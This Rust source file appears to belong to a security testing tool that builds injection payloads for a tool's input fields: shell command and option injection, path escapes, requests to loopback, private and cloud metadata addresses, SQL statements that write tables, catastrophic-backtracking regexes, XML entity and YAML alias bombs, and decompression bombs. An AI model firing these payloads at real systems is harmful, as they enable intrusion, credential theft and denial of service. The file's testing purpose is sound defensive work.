//! Chooses what is put into a place, each payload with the effect by which its success is known. All of them are plain
//! techniques: none knows a server.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr};
use std::path::{Path, PathBuf};

use super::aim::{Aim, Escape};
use super::archive::{self, SIZES, Size};
use super::base::Known;
use super::ground::{Ground, PLAIN, To, Way};
use super::place::{Place, Purpose};
use crate::plan::guard::words;

/// A longer value is left out of the payload: it only makes it harder to read.
const MAX_VALUE: usize = 80;
/// Where an option of ours would make a file.
const MADE: &str = "/tmp";
/// What a call asks for first; each further one asks twice as much.
const DOUBLINGS: u32 = 3;
/// Numbers whose product nobody writes down by chance.
const FACTOR: u64 = 70_001;
const STEP: u64 = 1_009;
/// Repetitions at which an expression that backtracks exponentially is felt, and at which one that does so over a long
/// text is.
const FEW: usize = 8;
const MANY: usize = 2_000;
/// Levels of a text that doubles with each of them: three doublings of this are some hundred megabytes.
const LEVELS: usize = 3;

/// Words of arguments that may be packed.
const PACKED: [&str; 11] = [
    "archive",
    "base64",
    "compressed",
    "gunzip",
    "gz",
    "gzip",
    "gzipped",
    "inflate",
    "packed",
    "zip",
    "zipped",
];

/// What is put into one place.
#[derive(Debug, Clone)]
pub struct Payload {
    pub way: String,
    pub aim: Aim,
    /// One value; several where each is to ask twice as much as the one before.
    pub values: Vec<String>,
    /// How unlikely it is to lead anywhere here; the smallest is tried first.
    pub rank: u8,
}

impl Payload {
    fn one(way: &str, aim: Aim, value: String, rank: u8) -> Payload {
        Payload { way: way.to_owned(), aim, values: vec![value], rank }
    }
}

/// A program of ours behind all that ends one command and begins another.
pub fn commands(place: &Place, known: &Known, ground: &Ground) -> Vec<Payload> {
    if place.purpose == Purpose::Program {
        return Vec::new();
    }
    let (value, program) = (short(&place.value), &ground.program);
    let rank = reaches_programs(place, known);
    let written = [
        ("a command substitution", format!("{value}$({program})")),
        ("a separator", format!("{value};{program};")),
        ("a quote and a separator", format!("{value}\";{program};\"")),
        ("a single quote and a separator", format!("{value}';{program};'")),
        ("backticks", format!("{value}`{program}`")),
        ("a pipe", format!("{value}|{program}")),
        ("a conjunction", format!("{value}&&{program}")),
        ("a disjunction", format!("{value}||{program}")),
        ("a new line", format!("{value}\n{program}\n")),
        ("a substitution with a whole path", format!("$(/usr/bin/{program})")),
        ("a quote and a substitution", format!("{value}\"$({program})\"")),
    ];
    let aim = || Aim::Execute { program: program.clone() };
    written.into_iter().map(|(way, text)| Payload::one(way, aim(), text, rank)).collect()
}

/// A value that looks like an option.
pub fn options(place: &Place, known: &Known, ground: &Ground) -> Vec<Payload> {
    if place.purpose == Purpose::Program {
        return Vec::new();
    }
    let program = &ground.program;
    let file = Path::new(MADE).join(format!("{program}-made"));
    let rank = reaches_programs(place, known);
    let output = format!("--output={}", file.display());
    let lone = format!("--{program}=");
    let aim = |option: &str| Aim::Pass { option: option.to_owned(), file: file.clone() };
    vec![
        Payload::one("an option", aim(&lone), lone.clone(), rank),
        Payload::one("an option that makes a file", aim(&output), output.clone(), rank),
        Payload::one(
            "a value with a space and an option",
            aim(&lone),
            format!("{} {lone}", short(&place.value)),
            rank,
        ),
    ]
}

/// How unlikely it is that a value gets into another program: one that succeeds without any hardly runs one, and neither
/// does one of a server where nobody does.
fn reaches_programs(place: &Place, known: &Known) -> u8 {
    let runs_none = !known.runs_programs && (!known.good.is_empty() || known.others_run_none);
    u8::from(place.purpose == Purpose::Prose) + u8::from(runs_none)
}

/// Every way of one sort out of every scope, those first that lead to what the place is for. `about` is what the schema
/// says of it.
pub fn escapes(place: &Place, ground: &Ground, wanted: Escape, about: &str) -> Vec<Payload> {
    let rank = match place.purpose {
        Purpose::Directory | Purpose::File => 0,
        Purpose::Unknown | Purpose::Address => 1,
        _ => 3,
    };
    let is_wanted = |aim: &Aim| matches!(aim, Aim::Reach { escape, .. } if *escape == wanted);
    let mut ways: Vec<&Way> = ground.ways.iter().filter(|way| is_wanted(&way.aim)).collect();
    let mentioned = ways.iter().any(|way| mentions(about, &way.to));
    ways.sort_by_key(|way| {
        let unfit = match (place.purpose, &way.to) {
            (Purpose::Directory, To::Directory) => 0,
            (_, to) if mentions(about, to) => 0,
            (_, To::File(ending)) if ending == PLAIN => u8::from(mentioned),
            (_, To::New) => 1,
            (_, To::Directory) => 2,
            (_, To::File(_)) => 3,
        };
        unfit + 2 * u8::from(way.disguised)
    });
    ways.into_iter().map(|way| Payload::one(way.about, way.aim.clone(), way.value.clone(), rank)).collect()
}

fn mentions(about: &str, to: &To) -> bool {
    matches!(to, To::File(ending) if about.contains(&format!(".{ending}")))
}

/// Addresses that nobody outside could reach, written in all the ways that are read.
pub fn requests(place: &Place, tool_fetches: bool, ground: &Ground) -> Vec<Payload> {
    let rank = match place.purpose {
        Purpose::Address => 0,
        Purpose::Unknown => 2,
        _ => 3,
    };
    let port = ground.port;
    let loopback = SocketAddr::new(Ipv4Addr::LOCALHOST.into(), port);
    let loopback6 = SocketAddr::new(Ipv6Addr::LOCALHOST.into(), port);
    let mapped = SocketAddr::new(Ipv4Addr::LOCALHOST.to_ipv6_mapped().into(), port);
    let any = SocketAddr::new(Ipv4Addr::UNSPECIFIED.into(), port);
    let private = |first, second| SocketAddr::new(IpAddr::from([first, second, 17, 23]), port);
    let metadata = SocketAddr::from(([169, 254, 169, 254], 80));
    let here = vec![loopback, loopback6, mapped, any];
    let written = [
        ("a loopback address", format!("http://127.0.0.1:{port}/"), here.clone()),
        (
            "the address of a metadata service",
            "http://169.254.169.254/latest/meta-data/".to_owned(),
            vec![metadata],
        ),
        ("the name of this machine", format!("http://localhost:{port}/"), here.clone()),
        ("a private address", format!("http://10.23.17.23:{port}/"), vec![private(10, 23)]),
        (
            "a private address of a small network",
            format!("http://192.168.17.23:{port}/"),
            vec![private(192, 168)],
        ),
        ("a loopback address of the new protocol", format!("http://[::1]:{port}/"), here.clone()),
        ("a mapped loopback address", format!("http://[::ffff:127.0.0.1]:{port}/"), here.clone()),
        ("a loopback address as one number", format!("http://2130706433:{port}/"), here.clone()),
        ("a short loopback address", format!("http://127.1:{port}/"), here.clone()),
        ("the address of any interface", format!("http://0.0.0.0:{port}/"), here.clone()),
        ("a loopback address without a scheme", format!("127.0.0.1:{port}"), here),
    ];
    let meant = tool_fetches || place.purpose == Purpose::Address;
    let aim = |addresses| Aim::Connect { addresses, meant };
    written.into_iter().map(|(way, text, addresses)| Payload::one(way, aim(addresses), text, rank)).collect()
}

/// Statements that change what a tool that only reads must leave alone. Behind those that make a table comes the question
/// for what is in it: a product that no call has written down, so that nobody can repeat it without having made the table.
pub fn statements(tool: &str, place: &Place, ground: &Ground, known: &[PathBuf]) -> Vec<Payload> {
    let rank = if place.purpose == Purpose::Statement { 0 } else { 2 };
    let value = short(&place.value);
    let written = [
        ("a statement that writes", "", ""),
        ("a second statement", "SELECT 1; ", ";"),
        ("an end of the transaction, and a statement", "COMMIT; ", ";"),
        ("a comment before a statement", "/* SELECT */ ", ""),
        ("a common table expression", "WITH x AS (SELECT 1) ", ""),
        ("a quote and a statement", &format!("{value}'; "), "; --"),
        ("a number and a statement", "1; ", "; --"),
    ];
    let mut payloads: Vec<Payload> = Vec::new();
    for (number, (way, before, after)) in written.into_iter().enumerate() {
        let table = ground.label(&format!("{tool} {} {way}", place.at));
        let left = FACTOR + (number as u64 + 1) * STEP;
        let create = format!("{before}CREATE TABLE {table} AS SELECT {left} * {FACTOR} AS n{after}");
        let aim = Aim::Change { known: known.to_vec(), shows: Some((left * FACTOR).to_string()) };
        let values = vec![create, format!("SELECT n FROM {table}")];
        payloads.push(Payload { way: way.to_owned(), aim, values, rank });
    }
    let aim = Aim::Change { known: known.to_vec(), shows: None };
    payloads.push(Payload::one("a setting that is kept", aim, "PRAGMA user_version = 7717".to_owned(), rank));
    payloads
}

/// Texts that each ask twice as much as the one before.
pub fn growths(place: &Place) -> Vec<Payload> {
    let rank = match place.purpose {
        Purpose::Pattern => 1,
        Purpose::Prose | Purpose::Unknown | Purpose::Statement => 2,
        _ => 3,
    };
    let doubled = |first: usize| (0..=DOUBLINGS).map(move |step| first << step);
    let all = |first, write: fn(usize) -> String| doubled(first).map(write).collect::<Vec<String>>();
    let written = [
        ("an expression that backtracks", all(1, |times| format!("(a+){{{times}}}b"))),
        ("letters that nearly match", all(FEW, |times| format!("{}!", "a".repeat(times)))),
        ("many letters that nearly match", all(MANY, |times| format!("{}!", "a".repeat(times)))),
        ("much white space", all(MANY, |times| format!("x{}x", " ".repeat(times)))),
        ("many brackets", all(MANY, |times| "<".repeat(times))),
        ("entities of entities", all(LEVELS, entities)),
        ("aliases of aliases", all(LEVELS, aliases)),
    ];
    let payload =
        |(way, values): (&str, Vec<String>)| Payload { way: way.to_owned(), aim: Aim::Grow, values, rank };
    written.into_iter().map(payload).collect()
}

/// Archives that unpack to much more than is sent. They are not small, so only what speaks of such things is sent any.
pub fn archives(place: &Place, about: &str) -> Vec<Payload> {
    let said = words(&place.name).into_iter().chain(words(about)).collect::<Vec<String>>();
    let speaks = said.iter().any(|word| PACKED.contains(&word.as_str()));
    if !speaks {
        return Vec::new();
    }
    let payload = |way: &str, write: fn(Size) -> String| Payload {
        way: way.to_owned(),
        aim: Aim::Inflate,
        values: SIZES.map(write).to_vec(),
        rank: 1,
    };
    vec![
        payload("a packed file that unpacks to much more", archive::gzip),
        payload("an archive that unpacks to much more", archive::zip),
    ]
}

/// A document in which each entity stands for twice the one before.
fn entities(levels: usize) -> String {
    let next = |level: usize| format!("<!ENTITY e{level} \"&e{0};&e{0};\">", level - 1);
    let rest: String = (1..=levels).map(next).collect();
    format!("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY e0 \"aaaaaaaaaa\">{rest}]><a>&e{levels};</a>")
}

/// The same as lists that name one another.
fn aliases(levels: usize) -> String {
    let next = |level: usize| format!("e{level}: &e{level} [*e{0}, *e{0}]\n", level - 1);
    let rest: String = (1..=levels).map(next).collect();
    format!("e0: &e0 [aaaaaaaaaa]\n{rest}")
}

fn short(value: &str) -> &str {
    if value.is_empty() || value.len() > MAX_VALUE { "x" } else { value }
}
